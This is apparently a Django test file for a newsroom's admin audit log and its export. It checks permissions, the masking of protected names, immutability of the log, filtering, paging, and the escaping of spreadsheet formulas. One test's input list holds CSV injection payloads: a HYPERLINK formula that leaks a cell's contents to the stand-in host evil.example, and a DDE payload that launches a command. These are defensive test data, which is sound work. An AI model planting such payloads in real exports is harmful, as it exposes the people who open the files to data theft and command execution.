"""The screen of the log and its export: who reads it, what it tells, and that a spreadsheet program runs nothing of it."""

import csv
import io
import json

import pytest
from django.contrib.auth.models import Permission
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from articles import audit, library, previews, workflow
from articles.audit import Action, action_label, actions
from articles.history import versions
from articles.models import AuditEntry
from articles.workflow.moves import MOVES
from people.base import spreadsheets
from tests.factories import make_article, make_image, make_person, make_user

pytestmark = pytest.mark.django_db

LOG = "/admin/articles/auditentry/"
EXPORT = f"{LOG}export/"


def reading(role="admin"):
    """Somebody who may read the log."""
    user = make_user(role)
    user.user_permissions.add(Permission.objects.get(codename="see_audit_log"))
    return user


@pytest.fixture
def chief(client):
    user = reading()
    client.force_login(user)
    return user


def page(client, **chosen) -> str:
    response = client.get(LOG, chosen)
    assert response.status_code == 200
    return response.content.decode()


def table(client, **chosen) -> str:
    return page(client, **chosen).partition("<tbody>")[2].partition("</tbody>")[0]


def exported(client, **chosen) -> str:
    response = client.post(EXPORT, chosen)
    assert response.status_code == 200
    return b"".join(response.streaming_content).decode()


def rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


# Reading ---------------------------------------------------------------------------------------------------------------


def test_an_entry_tells_who_did_what_to_which_story_and_why(client, chief):
    article = make_article("Two days in Nukus")
    audit.record(make_user("editor", first_name="Bakhyt"), "withdrawn", article=article, why="The source is in danger.")
    html = table(client)
    for words in ("Bakhyt", "Withdrawn", "Two days in Nukus", f"#{article.pk}", "The source is in danger."):
        assert words in html, words


@pytest.mark.parametrize("role", ["reporter", "editor", ""])
def test_the_log_is_not_for(client, role):
    client.force_login(make_user(role))
    assert client.get(LOG).status_code == 403
    assert client.post(EXPORT).status_code == 403


def test_a_stranger_is_asked_to_log_in(client):
    assert client.get(LOG)["Location"].startswith("/admin/login/")


def test_the_head_leads_to_the_log_only_for_who_may_read_it(client, editor):
    assert LOG not in client.get("/admin/").content.decode()
    client.force_login(reading())
    assert LOG in client.get("/admin/").content.decode()


def test_who_does_not_see_a_story_reads_its_number_alone(client):
    client.force_login(reading("reporter"))
    article = make_article("Secret draft", published=False)
    audit.record(make_user("editor"), "edited", article=article)
    html = table(client)
    assert f"#{article.pk}" in html
    assert "Secret draft" not in html


def test_protected_names_are_masked_for_who_may_not_see_them(client):
    client.force_login(reading("reporter"))
    person = make_person("Gulnara Sadykova", exposure="withheld")
    article = make_article("Gulnara Sadykova speaks", about=[person])
    audit.record(make_user("editor"), "withdrawn", article=article, why="Gulnara Sadykova asked for it.")
    assert "Sadykova" not in page(client)


def test_nothing_in_the_log_can_be_added_changed_or_removed_by_address(client, chief):
    entry = audit.record(chief, "edited")
    for rest in ("add/", f"{entry.pk}/change/", f"{entry.pk}/delete/", f"{entry.pk}/history/", f"{entry.pk}/"):
        assert client.get(LOG + rest).status_code in {302, 404}, rest
        assert client.post(LOG + rest).status_code in {302, 404, 405}, rest
    assert client.post(LOG).status_code == 405
    assert AuditEntry.objects.get().action == "edited"


def test_every_move_has_words_in_the_log():
    assert all(action_label(name) in map(str, Action.labels) for name in MOVES)


def test_a_shared_preview_has_words_in_the_log(client, chief):
    article = make_article()
    with workflow.changing(article, by=chief, comment="edited"):
        pass
    link, _token = previews.make_link(article, versions.keys_of(article)[0], by=chief, hours=72)
    previews.revoke(link, by=chief)
    assert set(AuditEntry.objects.values_list("action", flat=True)) <= set(Action.values)


def test_what_is_done_to_a_picture_for_good_is_in_the_log(client, chief):
    image = make_image(with_files=True, uploaded_by=chief)
    library.redact(
        image, [{"shape": "rectangle", "style": "solid", "x": 0, "y": 0, "width": 0.5, "height": 0.5}], by=chief
    )
    library.withdraw(image, by=chief)
    library.bring_back(image, by=chief)
    number = image.pk
    library.delete(image, by=chief)
    entries = client.get(LOG).context["entries"]
    told = ["Picture deleted", "Picture restored", "Picture withdrawn", "Parts of a picture covered"]
    assert [(entry.label, entry.of) for entry in entries] == [(words, f"Picture #{number}") for words in told]


def test_the_log_offers_no_word_twice():
    words = [label for _name, label in actions()]
    assert len(words) == len(set(words))


def test_what_nobody_has_named_shows_its_own_name(client, chief):
    audit.record(chief, "account_closed", target="account #3")
    html = table(client)
    assert "account closed" in html
    assert "account #3" in html


# Narrowing and paging --------------------------------------------------------------------------------------------------


def test_the_log_is_narrowed_by_what_who_and_story(client, chief):
    first, second = make_article("First"), make_article("Second")
    other = make_user("editor")
    audit.record(chief, "edited", article=first)
    audit.record(other, "withdrawn", article=second)
    for chosen in ({"action": "withdrawn"}, {"by": other.pk}, {"story": second.pk}):
        html = table(client, **chosen)
        assert "Second" in html
        assert "First" not in html


def test_the_log_is_narrowed_by_days(client, chief):
    audit.record(chief, "edited", target="now")
    assert "now" not in table(client, until="2020-01-01")
    assert "now" in table(client, since="2020-01-01")


@pytest.mark.parametrize(
    "chosen",
    [{"action": "drop"}, {"by": "x"}, {"by": "0" * 50}, {"story": "9" * 30}, {"since": "0001-01-01"},
     {"until": "9999-12-31"}, {"since": "\0"}, {"until": "31.02.2026"}, {"older": "x"}, {"older": "9" * 30}],
)  # fmt: skip
def test_what_cannot_be_asked_gets_a_page(client, chief, chosen):
    audit.record(chief, "edited")
    assert client.get(LOG, chosen).status_code == 200
    assert client.post(EXPORT, chosen).status_code == 200


def test_older_entries_follow_page_by_page(client, chief):
    for number in range(120):
        audit.record(chief, "edited", target=f"nr {number};")
    seen, address = [], LOG
    while address:
        context = client.get(address).context
        seen += [entry.pk for entry in context["entries"]]
        address = f"{LOG}?older={context['older']}" if context["older"] else None
    assert seen == sorted(seen, reverse=True)
    assert len(seen) == len(set(seen)) == 120


def test_a_page_costs_the_same_for_two_entries_and_for_twenty(client, chief):
    def fill(count):
        for _number in range(count):
            audit.record(make_user("editor"), "edited", article=make_article())

    fill(2)
    client.get(LOG)
    with CaptureQueriesContext(connection) as few:
        client.get(LOG)
    fill(18)
    with CaptureQueriesContext(connection) as many:
        client.get(LOG)
    assert len(few) == len(many) <= 9


# The export ------------------------------------------------------------------------------------------------------------


def test_the_export_holds_what_fits_and_no_headline(client, chief):
    article = make_article("Two days in Nukus")
    audit.record(chief, "withdrawn", article=article, why="A threat.", public_reason=False)
    audit.record(chief, "edited", article=article)
    text = exported(client, action="withdrawn")
    (row,) = rows(text)
    assert (row["account"], row["action"], row["story"], row["reason"]) == (
        chief.username, "withdrawn", str(article.pk), "A threat.",
    )  # fmt: skip
    assert "Nukus" not in text


def test_the_export_as_json_lines(client, chief):
    audit.record(chief, "edited", version=3)
    (line,) = map(json.loads, exported(client, **{"as": "jsonl"}).splitlines())
    assert (line["action"], line["detail"]) == ("edited", {"version": 3})


def test_an_export_is_an_entry_of_its_own(client, chief):
    exported(client, action="withdrawn")
    entry = AuditEntry.objects.get(action="exported")
    assert (entry.by, entry.detail) == (chief, {"format": "csv", "narrowed": {"action": "withdrawn"}})


def test_an_export_is_a_file_that_nobody_keeps(client, chief):
    response = client.post(EXPORT)
    assert response["Content-Disposition"].startswith('attachment; filename="log-')
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "no-store" in response["Cache-Control"]


def test_a_link_takes_no_export(client, chief):
    assert client.get(EXPORT).status_code == 405
    assert not AuditEntry.objects.exists()


FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1",
    '"=1+1', ";=1+1", "＝1+1", " =1", "＠x", "+49 30 1",
]  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS)
def test_no_text_in_a_table_is_a_formula(text):
    assert spreadsheets.cell(text) == f"'{text}"


def test_numbers_and_plain_words_stay_what_they_are():
    assert spreadsheets.row([-3, 4, "A threat.", "e-mail", None]) == [-3, 4, "A threat.", "e-mail", ""]


def test_a_reason_that_is_a_formula_is_none_in_the_export(client, chief):
    audit.record(chief, "withdrawn", why="=1+1")
    assert rows(exported(client))[0]["reason"] == "'=1+1"


def test_no_entry_and_no_column_of_the_log_has_an_address_of_a_network(client, chief):
    audit.record(chief, "edited")
    assert not {field.name for field in AuditEntry._meta.fields} & {"ip", "address", "remote_addr"}
    assert "127.0.0.1" not in page(client) + exported(client)


def test_the_newest_entries_are_read_from_an_index():
    with connection.cursor() as cursor:
        sql, params = AuditEntry.objects.order_by("-at", "-id")[:51].query.sql_with_params()
        prefix = "EXPLAIN QUERY PLAN " if connection.vendor == "sqlite" else "EXPLAIN "
        if connection.vendor == "postgresql":
            cursor.execute("SET LOCAL enable_seqscan = off")
            cursor.execute("SET LOCAL enable_sort = off")
        cursor.execute(prefix + sql, params)
        plan = " ".join(str(row) for row in cursor.fetchall())
    assert "audit_newest" in plan


def test_the_address_of_the_log_is_known():
    assert reverse("admin:articles_auditentry_changelist") == LOG
